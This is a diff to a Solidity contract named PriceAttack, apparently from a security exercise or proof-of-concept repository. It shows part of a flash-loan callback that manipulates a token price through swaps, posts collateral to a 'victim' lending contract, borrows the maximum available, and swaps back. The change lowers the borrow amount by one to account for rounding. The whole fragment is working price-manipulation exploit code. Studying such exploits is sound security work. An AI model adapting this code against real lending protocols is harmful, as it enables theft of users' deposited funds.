@@ -44,7 +44,7 @@ contract PriceAttack is Exploit, IERC3156FlashBorrower {
         uint256 pledged = abi.decode(data, (uint256));
         _swap(_debt, _collateral, amount);
         _victim.postCollateral(pledged);
-        uint256 limit = _victim.borrowLimit(address(this));
+        uint256 limit = _victim.borrowLimit(address(this)) - 1; // a debt is rounded up
         uint256 cash = _victim.cash();
         _victim.borrow(limit < cash ? limit : cash);
         _swap(_collateral, _debt, _collateral.balanceOf(address(this)));
